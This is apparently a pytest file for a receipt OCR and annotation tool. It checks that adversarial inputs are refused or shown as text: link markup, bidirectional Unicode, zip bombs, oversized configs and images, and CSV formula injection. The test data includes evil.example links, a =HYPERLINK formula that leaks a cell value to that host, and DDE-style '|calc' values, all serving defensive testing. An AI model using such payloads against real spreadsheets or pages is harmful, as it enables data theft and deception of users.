"""Inputs an adversarial probe sent (stop 20): names that Plotly would read as links, text that is not Unicode,
zips that expand from many small entries or nest deep, model folders whose config asks for huge tensors, image
files that are not files or too long on a side. Each is refused with one line naming it, or shown as text."""

from __future__ import annotations

import io
import json
import re
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from PIL import Image

from receipt_core.cli.main import main
from receipt_core.data.document import Document, Word
from receipt_core.data.images import MAX_IMAGE_BYTES, ImageLoadError, load_image, read_image_file
from receipt_core.data.markup import escape_markup
from receipt_core.data.quantity import parse_quantity
from receipt_core.datasets import load_dataset
from receipt_core.datasets.zip_import import ZipImportError, ZipLimits, checked_entries
from receipt_core.model.backbones import BackboneError, load_backbone
from receipt_core.ocr.preprocess import prepare
from receipt_core.plots.figures import document_figure
from receipt_core.plots.run_charts import cost_quality_figure, curve_figure
from receipt_core.training.events import is_score_metric

LINK = '<a href="https://evil.example/p">CLICK</a>'


def _no_live_markup(figure) -> None:
    text = figure.to_json()
    assert "<a href" not in text and "&lt;a href=" in text


def test_a_document_id_or_run_name_reaches_every_figure_as_text():
    doc = Document(id=f"plotly-{LINK}", width=100, height=100,
                   words=(Word(text="x", box=(10, 10, 20, 20)),))
    _no_live_markup(document_figure(doc, title=doc.id))
    curves = pd.DataFrame({"step": [1, 2], "series": [LINK, LINK], "value": [0.5, 0.6]})
    _no_live_markup(curve_figure(curves, f"loss of {LINK}", "loss"))
    runs = pd.DataFrame({"run": [LINK], "scenario": [LINK], "cost": [10.0], "quality": [0.9]})
    _no_live_markup(cost_quality_figure(runs, "cost", "quality", "cost", "quality"))
    assert escape_markup("a & b <i>") == "a &amp; b &lt;i&gt;"


def test_a_backbone_folder_name_reaches_the_study_report_table_as_text():
    """The HTML report's table is a Plotly table, whose cells read tags: a configuration names its backbone, which
    may be a folder whose name holds a link."""
    from receipt_core.study.report import html_report
    from receipt_core.study.result import ConfigSummary, RunResult, StudyResult
    from receipt_core.study.settings import StudyConfig, StudySettings

    config = StudyConfig(f"/data/{LINK}", "full")
    run = RunResult(config=config, seed=0, metrics={"fields.micro_f1": 0.5}, train_s=1.0, wall_s=2.0,
                    trainable_parameters=10, total_parameters=10, steps=1, epochs=1.0, finished="completed",
                    evaluations=(), losses=())
    page = html_report(StudyResult(settings=StudySettings(), summaries=(ConfigSummary(config, (run,)),),
                                   train_data="t", eval_data="e", train_documents=1, eval_documents=1))
    # (the embedded plotly.js holds links of its own, and Plotly's JSON writes "<" as \u003c and "/" as \u002f:
    # look for this one, in either spelling)
    live = re.compile(r'(<|\\u003c)a href=\\?"https:(\\u002f|/)(\\u002f|/)evil')
    assert live.search(page) is None and "&lt;a href=" in page
    # the settings paragraph, the command and the problems as report.md has them, each as text (probe 28: the HTML
    # report, the one the Race page offers, had none of them)
    page = html_report(StudyResult(settings=StudySettings(), summaries=(ConfigSummary(config, (run,)),),
                                   train_data=LINK, eval_data="e", train_documents=1, eval_documents=1,
                                   command=f"study --train {LINK}",
                                   notes=(f"4 of the 4 evaluation receipts are also training receipts {LINK}",)))
    assert live.search(page) is None
    assert "<h2>Problems</h2><ul><li>4 of the 4 evaluation receipts are also training receipts &lt;a href=" in page
    assert "study --train &lt;a href=" in page and "Train: <code>&lt;a href=" in page
    # no chart draws Plotly's logo, a link to plotly.com (probe 67), and the command wraps
    assert page.count('"displaylogo": false') == 3 and "<pre style='white-space: pre-wrap" in page


def _figure_strings(value) -> list[str]:
    """Every string a figure shows (titles, legend names, hovers, written words); ``uirevision`` and
    ``legendgroup`` are identities Plotly compares, never shown."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [text for key, item in value.items() if key not in ("uirevision", "legendgroup")
                for text in _figure_strings(item)]
    if isinstance(value, (list, tuple)):
        return [text for item in value for text in _figure_strings(item)]
    return []


def test_invisible_and_direction_changing_characters_reach_every_receipt_figure_as_escapes(tmp_path):
    """Found in a walkthrough: an imported word "\u202eRTL" was drawn as "LTR" and "zero\u200bwidth" as "zerowidth"
    on Annotate's chart, while the word picker showed the escapes."""
    from receipt_core.datasets.native import save_native
    from receipt_core.model.predict import DocumentPrediction, WordPrediction
    from receipt_core.plots.annotation_figure import annotation_figure
    from receipt_core.plots.figures import prediction_figure
    from receipt_core.plots.overlay import overlay_figure

    texts = ("\u202eRTL", "zero\u200bwidth", "a\u2060b\ufeffc\u200c\u200d", "\u2066iso\u2069", "soft\xadhyphen")
    words = tuple(Word(text=text, box=(10, 10 + 20 * i, 60, 25 + 20 * i)) for i, text in enumerate(texts))
    save_native([Document(id="doc\u200b-\u202e1", width=100, height=120, words=words)], tmp_path / "in")
    (doc,) = load_dataset(tmp_path / "in", "native").documents  # imported as a user's file would be
    assert [w.text for w in doc.words] == list(texts)
    escaped = ["\\u202eRTL", "zero\\u200bwidth", "a\\u2060b\\ufeffc\\u200c\\u200d", "\\u2066iso\\u2069",
               "soft\\u00adhyphen"]
    prediction = DocumentPrediction(doc.id, tuple(WordPrediction(w.text, w.box, "OTHER", 0.9, False, None)
                                                  for w in doc.words), ())
    run_name = "run \u202eeman"
    for figure in (annotation_figure(doc), document_figure(doc, title=doc.id),
                   prediction_figure(doc.width, doc.height, prediction.to_json(), title=run_name),
                   overlay_figure(doc, prediction, title=run_name)):
        strings = _figure_strings(figure.to_plotly_json())
        assert [text for text in strings if not text.isprintable()] == []
        shown = " ".join(strings)
        for text in escaped:
            assert f"<b>{text}</b>" in shown  # each word's hover
    written = next(t for t in annotation_figure(doc).data if t.mode == "text")  # the words drawn on a blank page
    assert list(written.text) == escaped
    assert document_figure(doc, title=doc.id).layout.title.text == "doc\\u200b-\\u202e1"
    assert overlay_figure(doc, prediction, title=run_name).layout.title.text == "run \\u202eeman"
    # a line each (Predict's receipt, then its run), each escaped: only the break between them is markup
    assert prediction_figure(doc.width, doc.height, prediction.to_json(), title=("<b>x</b>", run_name)).layout \
        .title.text == "&lt;b&gt;x&lt;/b&gt;<br>run \\u202eeman"


def test_a_label_given_as_markup_is_drawn_as_text_in_legends_and_hovers():
    """A probe's re-signed run named a field '<a href=…>CLICK</a>': Predict's legend drew a live link (run.json's
    check now refuses such a run; a figure shows a label as text whatever its source)."""
    from receipt_core.data.document import Suggestion
    from receipt_core.model.predict import WordPrediction
    from receipt_core.plots.annotation_figure import annotation_figure
    from receipt_core.plots.figures import prediction_figure

    link = '<a href="https://evil.example">CLICK</a>'
    word = WordPrediction("tea", (1, 1, 20, 10), link, 0.9, False, None)
    suggested = Word(text="tea", box=(1, 1, 20, 10), suggestion=Suggestion(link, False, None, "r", 0.9))
    for figure in (prediction_figure(50, 50, {"words": [word.to_json()]}, title="t"),
                   annotation_figure(Document(id="d", width=50, height=50, words=(suggested,)))):
        shown = " ".join(_figure_strings(figure.to_plotly_json()))
        assert "<a href" not in shown and "&lt;a href=" in shown


def test_counts_stay_off_the_score_charts():
    assert is_score_metric("fields.micro_f1") and is_score_metric("quantity.item_accuracy")
    assert not any(is_score_metric(name) for name in ("fields.words", "quantity.items", "quantity.items_not_one",
                                                      "documents", "quantity.words", "fields.field_words"))


def _cord_record(text: str, quantity: str = "1") -> dict:
    def word(t: str, x: int) -> dict:
        return {"text": t, "quad": {"x1": x, "y1": 10, "x2": x + 40, "y2": 10, "x3": x + 40, "y3": 30,
                                    "x4": x, "y4": 30}, "is_key": 0, "row_id": 1}
    return {"valid_line": [{"category": "menu.cnt", "group_id": 1, "words": [word(quantity, 10)]},
                           {"category": "menu.nm", "group_id": 1, "words": [word(text, 60)]}],
            "meta": {"version": "1.0.0", "split": "train", "image_id": 1, "image_size": {"width": 200,
                                                                                          "height": 100}}}


def test_a_negative_quantity_skips_its_record_and_a_megabyte_word_only_itself(tmp_path):
    good = Document(id="good", width=100, height=50, words=(Word(text="2x", box=(1, 2, 30, 12)),))
    records = {"good": good.to_json(), "negative": good.to_json() | {"id": "negative"},
               "huge": good.to_json() | {"id": "huge"}}
    records["negative"]["words"] = [records["negative"]["words"][0] | {"quantity": True, "quantity_value": -5}]
    records["huge"]["words"] = [records["huge"]["words"][0] | {"text": "A" * 1_000_000}]
    for name, data in records.items():
        (tmp_path / f"{name}.json").write_text(json.dumps(data), encoding="utf-8")
    report = load_dataset(tmp_path, "native")
    assert [doc.id for doc in report.documents] == ["good", "huge"]  # huge: its one word left out, said
    assert [len(doc.words) for doc in report.documents] == [1, 0]
    assert sorted(report.problems) == [
        "huge.json: 1 word over the limit of 500 characters for one word left out (word 0: 1,000,000 characters)",
        "negative.json: word 0: 'quantity_value' is -5; a quantity is not negative; skipped"]


def test_a_lone_surrogate_skips_its_record_and_the_rest_imports(tmp_path):
    folder = tmp_path / "json"
    folder.mkdir()
    (folder / "receipt_00001.json").write_text(json.dumps(_cord_record("Nasi")), encoding="utf-8")
    (folder / "receipt_00002.json").write_text(json.dumps(_cord_record("Mie\ud800")), encoding="utf-8")
    report = load_dataset(folder, "cord")
    assert [doc.id for doc in report.documents] == ["cord-receipt_00001"]
    assert any("receipt_00002" in p and "not valid Unicode" in p and "skipped" in p for p in report.problems)


def test_a_quantity_past_a_billion_is_no_quantity_and_exports_back(tmp_path, workspace_home, capsys):
    assert parse_quantity("9" * 38) is None and parse_quantity("12") == 12.0
    folder = tmp_path / "json"
    folder.mkdir()
    (folder / "receipt_00001.json").write_text(json.dumps(_cord_record("Nasi", "9" * 38)), encoding="utf-8")
    assert main(["import", "--format", "cord", str(folder), "--dataset", "huge"]) == 0
    assert "its number is no count" in capsys.readouterr().err  # said at the import (a probe: "-2", "1e308")
    assert main(["export", "--out", str(tmp_path / "out"), "--dataset", "huge"]) == 0
    assert main(["import", "--format", "native", str(tmp_path / "out"), "--dataset", "huge"]) == 0
    assert "problem" not in capsys.readouterr().err


def test_a_document_id_with_a_control_character_is_skipped(tmp_path):
    good = Document(id="fine", width=100, height=100, words=(Word(text="x", box=(1, 1, 9, 9)),))
    bad = Document(id="bad\nline", width=100, height=100, words=(Word(text="x", box=(1, 1, 9, 9)),))
    (tmp_path / "good.json").write_text(json.dumps(good.to_json()), encoding="utf-8")
    (tmp_path / "bad.json").write_text(json.dumps(bad.to_json()), encoding="utf-8")
    report = load_dataset(tmp_path, "native")
    assert [doc.id for doc in report.documents] == ["fine"]
    assert any("control character" in p for p in report.problems)


def _infos(entries: dict[str, bytes]) -> list[zipfile.ZipInfo]:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return zipfile.ZipFile(io.BytesIO(buffer.getvalue())).infolist()


def test_label_studio_tasks_with_ids_or_coordinates_of_the_wrong_type_import_what_is_usable(tmp_path):
    from receipt_core.datasets import export_documents

    doc = Document("r1", 100, 50, (Word("A", (1, 1, 20, 10), field="TOTAL", group_id=0),
                                   Word("B", (30, 1, 50, 10), group_id=0)))
    export_documents([doc], tmp_path / "ok", "label-studio")
    task = json.loads((tmp_path / "ok" / "tasks.json").read_text())[0]
    linked = json.loads(json.dumps(task)) | {"data": task["data"] | {"receipt_id": "linked"}}
    linked["annotations"][0]["result"].append({"type": "relation", "from_id": ["w0"], "to_id": {"w": 1}})
    moved = json.loads(json.dumps(task)) | {"data": task["data"] | {"receipt_id": "moved"}}
    for result in moved["annotations"][0]["result"]:
        if result.get("id") == "w0" and "x" in result.get("value", {}):
            result["value"]["x"] = "abc"
    listed = task | {"annotations": 5, "data": task["data"] | {"receipt_id": "listed"}}
    (tmp_path / "tasks.json").write_text(json.dumps([linked, moved, listed]))
    report = load_dataset(tmp_path / "tasks.json", "label-studio")
    assert [d.id for d in report.documents] == ["linked", "moved"]
    assert [w.group_id for w in report.documents[0].words] == [0, 0]  # the bad relation is ignored, not fatal
    assert [w.text for w in report.documents[1].words] == ["B"]
    assert report.problems == ("tasks.json task 2 (id 1): region w0: x must be a number, got 'abc'; dropped",
                               # the dropped region's item relation is said too
                               "tasks.json task 2 (id 1): 1 item relation joins no two words of the task ('w0' → "
                               "'w1'): left out",
                               "tasks.json task 3 (id 1): annotations and predictions must be lists; skipped")


def test_many_small_zip_bombs_and_deep_folders_are_refused_before_extraction():
    small_bombs = _infos({f"zeros/{i}.json": b"0" * 200_000 for i in range(20)})  # each under the per-entry floor
    with pytest.raises(ZipImportError, match="files expand to 4,000,000 bytes .* zip bomb"):
        checked_entries(small_bombs, ZipLimits())
    deep = _infos({"d/" * 40 + "receipt_00001.json": b"{}"})
    with pytest.raises(ZipImportError, match="41 folders deep, over 32"):
        checked_entries(deep, ZipLimits())
    checked_entries(_infos({"json/receipt_00001.json": json.dumps(_cord_record("Nasi")).encode()}), ZipLimits())
    # a probe's 300-character name failed as "File name too long" once extraction had begun
    long_name = _infos({"json/" + "a" * 300 + ".json": b"{}", "json/ok.json": b"{}"})
    with pytest.raises(ZipImportError, match="has a name of 305 bytes, over the 255 a file or folder name may have; "
                                             "refused"):
        checked_entries(long_name, ZipLimits())


def _model_folder(tmp_path: Path, config: object, name: str) -> Path:
    folder = tmp_path / name
    folder.mkdir()
    (folder / "config.json").write_text(json.dumps(config), encoding="utf-8")
    return folder


def test_a_model_folder_asking_for_huge_tensors_is_refused_before_anything_is_allocated(tmp_path, tiny_backbone):
    config = {**tiny_backbone.model.config.to_dict(), "model_type": "layoutlm", "intermediate_size": 200_000_000}
    with pytest.raises(BackboneError, match="intermediate_size' must be a whole number from 1 to 16,384"):
        load_backbone(str(_model_folder(tmp_path, config, "huge")))
    with pytest.raises(BackboneError, match="must hold a JSON object"):
        load_backbone(str(_model_folder(tmp_path, [], "list")))
    deep = tmp_path / "deep"
    deep.mkdir()
    (deep / "config.json").write_text("[" * 10_000 + "]" * 10_000)
    with pytest.raises(BackboneError, match="not a readable JSON config: .*nests"):
        load_backbone(str(deep))


def test_an_image_path_that_is_not_a_file_or_too_big_is_refused_before_reading(tmp_path):
    with pytest.raises(ImageLoadError, match="not a regular file"):
        read_image_file(Path("/dev/zero"))
    big = tmp_path / "big.png"
    with open(big, "wb") as out:
        out.truncate(MAX_IMAGE_BYTES + 1)  # sparse: no disk used
    with pytest.raises(ImageLoadError, match="over the limit"):
        read_image_file(big)
    with pytest.raises(ImageLoadError, match="cannot be read"):
        read_image_file(tmp_path / "missing.png")


def test_a_side_tesseract_cannot_read_is_refused_and_a_narrow_strip_is_not_blown_up():
    buffer = io.BytesIO()
    Image.new("L", (10, 40_000), 255).save(buffer, format="PNG")
    with pytest.raises(ImageLoadError, match="at most 32,767 pixels on a side"):
        load_image(buffer.getvalue(), "tall.png")
    strip = Image.new("L", (250, 30_000), 255)
    prepared = prepare(strip, min_width=1000, max_scale=4.0)
    assert max(prepared.image.size) <= 32_767 and prepared.image.width * prepared.image.height <= 40_000_000


@pytest.mark.ocr
def test_a_long_thermal_receipt_is_read_not_refused_by_tesseract():
    """Found by a probe: a 384 × 14,000 px printout (a 58 mm till roll) was enlarged towards 1000 px wide, to
    36,458 px tall, and Tesseract answered "Image too large". The enlargement now stops at Tesseract's side."""
    from PIL import ImageDraw

    from receipt_core.ocr.engine import ocr_image

    image = Image.new("L", (384, 14_000), 255)
    ImageDraw.Draw(image).text((20, 40), "TOTAL 12.50", fill=0, font_size=28)
    buffer = io.BytesIO()
    image.save(buffer, format="PNG")
    doc = ocr_image(load_image(buffer.getvalue(), "thermal58.png"), doc_id="thermal")
    assert any("TOTAL" in w.text for w in doc.words), [w.text for w in doc.words]


def test_the_ocr_command_names_each_bad_file_once(tmp_path, capsys):
    fake = tmp_path / "fake.png"
    fake.write_text("not an image")
    assert main(["ocr", str(fake), "/dev/zero"]) == 2
    errors = [line for line in capsys.readouterr().err.splitlines() if line.startswith("error: ")]
    assert len(errors) == 2
    assert all(line.count(str(fake)) + line.count("/dev/zero") == 1 for line in errors), errors


def test_csv_downloads_show_formula_like_text_as_text_and_keep_numbers():
    """Found by a probe: the Predict CSV carried an upload's file name ``=HYPERLINK(…).png`` as a live formula."""
    import csv
    import io

    import pandas as pd

    from receipt_core.data.markup import spreadsheet_csv

    frame = pd.DataFrame([{"receipt": '=HYPERLINK("http://evil.example/?x="&A1,"open").png', "name": "+SUM(A1)",
                           "price": -4.5, "note": "@cmd", "plain": "TEA - large"}])
    rows = list(csv.DictReader(io.StringIO(spreadsheet_csv(frame).decode("utf-8"))))
    assert rows[0]["receipt"].startswith("'=HYPERLINK(") and rows[0]["name"] == "'+SUM(A1)"
    assert rows[0]["note"] == "'@cmd" and rows[0]["plain"] == "TEA - large" and rows[0]["price"] == "-4.5"
    # a second probe: after leading spaces (a no-break space too), and | or % (DDE, macros in some spreadsheets)
    frame = pd.DataFrame([{"a": "  =1+1", "b": "\u00a0=cmd", "c": "|calc", "d": "%x", "e": " 12 % off"}])
    rows = list(csv.DictReader(io.StringIO(spreadsheet_csv(frame).decode("utf-8"))))
    assert rows[0] == {"a": "'  =1+1", "b": "'\u00a0=cmd", "c": "'|calc", "d": "'%x", "e": " 12 % off"}
    # a third: a bidirectional override in a file name, which every page shows as its escape, read reversed there
    frame = pd.DataFrame([{"receipt": "photo\u202egpj.exe.jpg", "word": "zero\u200bwidth", "item": "Café\tx"}])
    rows = list(csv.DictReader(io.StringIO(spreadsheet_csv(frame).decode("utf-8"))))
    assert rows[0] == {"receipt": "photo\\u202egpj.exe.jpg", "word": "zero\\u200bwidth", "item": "Café\tx"}


def test_marks_that_draw_nothing_show_as_escapes_and_marks_that_pick_a_look_stay():
    """A probe named three runs "best run", "best run" + U+034F and "best run" + U+FE0F: every table, chip and legend
    showed "best run" three times; a name of 80 lone accents drew as an empty chip with one stray mark."""
    from receipt_core.data.markup import one_line, visible_text

    assert visible_text("best run\u034f") == "best run\\u034f"
    assert visible_text("best run\ufe0f") == "best run\\ufe0f"
    assert one_line("khmer\u17b4") == "khmer\\u17b4"
    assert escape_markup("\u0301" * 3) == "\\u0301" * 3  # nothing to sit on
    assert visible_text("a \u0301b") == "a \\u0301b"
    assert len({visible_text(name) for name in ("best run", "best run\u034f", "best run\ufe0f")}) == 3
    # what a mark is for stays: an accent on its letter, an emoji's presentation selector, Devanagari's vowel signs
    for kept in ("cafe\u0301", "\u2764\ufe0f love", "\u0928\u092e\u0938\u094d\u0924\u0947"):
        assert visible_text(kept) == kept and one_line(kept) == kept


def test_words_nobody_labelled_are_outlined_dark_enough_to_see_on_receipt_paper():
    """Walkthrough 21 could not see the dotted outline of a word nobody labelled on a photo's paper: a second
    assignment below the near-black one (#2B2B2B) had put back the old light grey (#A8A8A8)."""
    from receipt_core.plots.annotation_figure import annotation_figure

    doc = Document(id="d", width=50, height=50, words=(Word(text="10%", box=(1, 1, 20, 10)),))
    [outline] = [t for t in annotation_figure(doc).data if t.name == "not labelled"]
    red, green, blue = (int(outline.line.color[i:i + 2], 16) for i in (1, 3, 5))
    assert outline.line.dash == "dot" and max(red, green, blue) < 0x60, outline.line.color
